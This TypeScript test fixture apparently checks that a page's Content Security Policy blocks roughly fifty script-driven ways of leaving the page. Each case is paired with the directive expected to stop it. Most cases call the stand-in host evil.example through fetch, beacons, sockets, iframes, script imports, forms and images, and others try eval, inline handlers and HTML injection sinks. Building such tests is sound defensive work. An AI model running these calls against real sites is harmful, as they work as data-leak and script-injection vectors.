/**
 * Ways out of a page, as a script in it would try them: each with the lines of the policy of which every one stops it by itself, and the
 * directive that the browser names then.
 */

/** The lines of the policy, by their names. */
export type Line =
  | 'default-src'
  | 'script-src'
  | 'style-src'
  | 'font-src'
  | 'img-src'
  | 'require-trusted-types-for'
  | 'trusted-types'
  | 'base-uri'
  | 'form-action';

export interface Attack {
  /** Part of the address that it asks for, if it asks for one. */
  readonly name: string;
  readonly lines: Partial<Readonly<Record<Line, string>>>;
  /** Runs in the page, with nothing but what it holds itself. True: it got through. A script that runs calls `parleyRan.push(name)`. */
  readonly run: () => unknown;
}

/** What is loaded from there has left the page. */
export const elsewhere = 'https://evil.example/';

const markup = { 'require-trusted-types-for': 'require-trusted-types-for' } as const;

export const attacks: readonly Attack[] = [
  { name: 'fetch', lines: { 'default-src': 'connect-src' }, run: () => fetch('https://evil.example/fetch', { mode: 'no-cors' }) },
  {
    name: 'request',
    lines: { 'default-src': 'connect-src' },
    run: () => {
      const request = new XMLHttpRequest();
      request.open('GET', 'https://evil.example/request');
      request.send();
    },
  },
  { name: 'beacon', lines: { 'default-src': 'connect-src' }, run: () => void navigator.sendBeacon('https://evil.example/beacon', 'x') },
  { name: 'socket', lines: { 'default-src': 'connect-src' }, run: () => void new WebSocket('wss://evil.example/socket') },
  { name: 'events', lines: { 'default-src': 'connect-src' }, run: () => void new EventSource('https://evil.example/events') },
  {
    name: 'ping',
    lines: { 'default-src': 'connect-src' },
    run: () => {
      const link = document.createElement('a');
      link.href = '#ping';
      link.ping = 'https://evil.example/ping';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'frame',
    lines: { 'default-src': 'frame-src' },
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/frame';
      document.body.append(frame);
    },
  },
  {
    name: 'object',
    lines: { 'default-src': 'object-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const object = document.createElement('object');
      object.data = 'https://evil.example/object';
      document.body.append(object);
    },
  },
  {
    name: 'embed',
    lines: { 'default-src': 'object-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const embed = document.createElement('embed');
      embed.src = 'https://evil.example/embed';
      document.body.append(embed);
    },
  },
  {
    name: 'sound',
    lines: { 'default-src': 'media-src' },
    run: () => {
      const sound = new Audio('https://evil.example/sound');
      sound.load();
    },
  },
  {
    name: 'track',
    lines: { 'default-src': 'media-src' },
    run: () => {
      const video = document.createElement('video');
      const source = document.createElement('source');
      source.src = 'https://evil.example/track';
      video.append(source);
      document.body.append(video);
    },
  },
  {
    name: 'prefetch',
    lines: { 'default-src': 'default-src' },
    run: () => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = 'https://evil.example/prefetch';
      document.head.append(link);
    },
  },
  {
    name: 'preload',
    lines: { 'img-src': 'img-src' },
    run: () => {
      const link = document.createElement('link');
      link.rel = 'preload';
      link.as = 'image';
      link.href = 'https://evil.example/preload';
      document.head.append(link);
    },
  },
  {
    name: 'worker',
    lines: { 'script-src': 'worker-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
        worker.onmessage = () => resolve(true);
      }),
  },
  {
    name: 'inline',
    lines: { 'script-src': 'script-src-elem', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const script = document.createElement('script');
      script.append("parleyRan.push('inline')");
      document.body.append(script);
    },
  },
  {
    name: 'script',
    lines: { 'script-src': 'script-src-elem', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/script';
      document.body.append(script);
    },
  },
  {
    name: 'handler',
    lines: { 'script-src': 'script-src-attr', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', "parleyRan.push('handler')");
      document.body.append(button);
      button.click();
    },
  },
  {
    name: 'address',
    lines: { 'script-src': 'script-src-elem', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => {
      const link = document.createElement('a');
      link.href = "javascript:void parleyRan.push('address')";
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'eval',
    lines: { 'script-src': 'script-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    // biome-ignore lint/security/noGlobalEval: that is what is tried.
    run: () => globalThis.eval("parleyRan.push('eval')"),
  },
  {
    name: 'function',
    lines: { 'script-src': 'script-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => new Function("parleyRan.push('function')")(),
  },
  {
    name: 'timer',
    lines: { 'script-src': 'script-src', 'require-trusted-types-for': 'require-trusted-types-for' },
    run: () => void setTimeout("parleyRan.push('timer')"),
  },
  { name: 'import', lines: { 'script-src': 'script-src-elem' }, run: () => import(String('https://evil.example/import')) },
  {
    name: 'module',
    lines: { 'script-src': 'script-src-elem' },
    run: () => import(String("data:text/javascript,parleyRan.push('module')")),
  },
  {
    name: 'assembly',
    lines: { 'script-src': 'script-src' },
    run: async () => (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))) instanceof WebAssembly.Module,
  },
  {
    name: 'sheet',
    lines: { 'style-src': 'style-src-elem' },
    run: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.example/sheet';
      document.head.append(link);
    },
  },
  {
    name: 'style',
    lines: { 'style-src': 'style-src-elem' },
    run: () => {
      const style = document.createElement('style');
      style.append(':root { --evil: 1 }');
      document.head.append(style);
      return getComputedStyle(document.documentElement).getPropertyValue('--evil') !== '';
    },
  },
  {
    name: 'styled',
    lines: { 'style-src': 'style-src-attr' },
    run: () => {
      const element = document.createElement('div');
      element.setAttribute('style', '--evil-too: 1');
      document.body.append(element);
      return getComputedStyle(element).getPropertyValue('--evil-too') !== '';
    },
  },
  {
    name: 'font',
    lines: { 'font-src': 'font-src' },
    run: () => new FontFace('evil', 'url(https://evil.example/font)').load(),
  },
  {
    name: 'image',
    lines: { 'img-src': 'img-src' },
    run: () => {
      new Image().src = 'https://evil.example/image';
    },
  },
  {
    name: 'set',
    lines: { 'img-src': 'img-src' },
    run: () => {
      new Image().srcset = 'https://evil.example/set 1x';
    },
  },
  {
    name: 'background',
    lines: { 'img-src': 'img-src' },
    run: () => {
      document.body.style.backgroundImage = 'url(https://evil.example/background)';
      getComputedStyle(document.body).backgroundImage;
    },
  },
  {
    name: 'rule',
    lines: { 'img-src': 'img-src' },
    run: () => {
      const sheet = new CSSStyleSheet();
      sheet.insertRule('body::after { content: url(https://evil.example/rule) }');
      document.adoptedStyleSheets.push(sheet);
    },
  },
  {
    name: 'drawing',
    lines: { 'img-src': 'img-src' },
    run: () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', 'https://evil.example/drawing');
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    name: 'poster',
    lines: { 'img-src': 'img-src' },
    run: () => {
      const video = document.createElement('video');
      video.poster = 'https://evil.example/poster';
      document.body.append(video);
    },
  },
  {
    name: 'button',
    lines: { 'img-src': 'img-src' },
    run: () => {
      const input = document.createElement('input');
      input.type = 'image';
      input.src = 'https://evil.example/button';
      document.body.append(input);
    },
  },
  {
    name: 'inner',
    lines: markup,
    run: () => {
      const element = document.createElement('div');
      element.innerHTML = '<b>x</b>';
      return element.firstElementChild !== null;
    },
  },
  {
    name: 'outer',
    lines: markup,
    run: () => {
      const element = document.createElement('div');
      const child = document.createElement('i');
      element.append(child);
      child.outerHTML = '<b>x</b>';
      return element.firstElementChild?.localName === 'b';
    },
  },
  {
    name: 'adjacent',
    lines: markup,
    run: () => {
      const element = document.createElement('div');
      element.insertAdjacentHTML('beforeend', '<b>x</b>');
      return element.firstElementChild !== null;
    },
  },
  { name: 'parser', lines: markup, run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html').body.childElementCount === 1 },
  { name: 'fragment', lines: markup, run: () => document.createRange().createContextualFragment('<b>x</b>').childElementCount === 1 },
  {
    name: 'unsafe',
    lines: markup,
    run: () => {
      const element = document.createElement('div');
      element.setHTMLUnsafe('<b>x</b>');
      return element.firstElementChild !== null;
    },
  },
  {
    name: 'document',
    lines: markup,
    run: () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<b>x</b>';
      return frame.getAttribute('srcdoc') !== null;
    },
  },
  {
    name: 'write',
    lines: markup,
    run: () => {
      const other = document.implementation.createHTMLDocument('');
      other.write('<b>x</b>');
      return other.querySelector('b') !== null;
    },
  },
  {
    name: 'policy',
    lines: { 'trusted-types': 'trusted-types' },
    run: () => {
      const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
      return trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }) !== undefined;
    },
  },
  {
    name: 'base',
    lines: { 'base-uri': 'base-uri' },
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/base';
      document.head.append(base);
      const got = document.baseURI.startsWith('https://evil.example');
      base.remove();
      return got;
    },
  },
  {
    name: 'form',
    lines: { 'form-action': 'form-action', 'default-src': 'frame-src' },
    run: () => {
      const frame = document.createElement('iframe');
      frame.name = 'evil';
      const form = document.createElement('form');
      form.action = 'https://evil.example/form';
      form.method = 'post';
      form.target = 'evil';
      document.body.append(frame, form);
      form.submit();
    },
  },
];

/** Puts the attacks into a page as a script of its own: what a test driver evaluates is not held to the page's policy. */
export function attackScript(): string {
  const functions = attacks.map(({ name, run }) => `${JSON.stringify(name)}: ${run.toString()}`);
  return `globalThis.parleyAttacks = { ${functions.join(',\n')} };`;
}

declare global {
  var parleyAttacks: Readonly<Record<string, () => unknown>>;
}

/** What came of an attack as far as it can be told in the page. */
export interface Tried {
  readonly through: boolean;
  /** The directives that the browser named. */
  readonly stoppedBy: readonly string[];
}

/**
 * Begins an attack, and says what came of it by now. Runs in the page.
 * @param attack its name
 */
export async function tryAttack(attack: string): Promise<void> {
  // With the next task, whatever the driver of this may do is over.
  await new Promise((resolve) => setTimeout(resolve));
  parleyStopped.length = 0;
  const got = async () => {
    if ((await parleyAttacks[attack]?.()) === true) parleyRan.push(attack);
  };
  void got().catch(() => {});
}
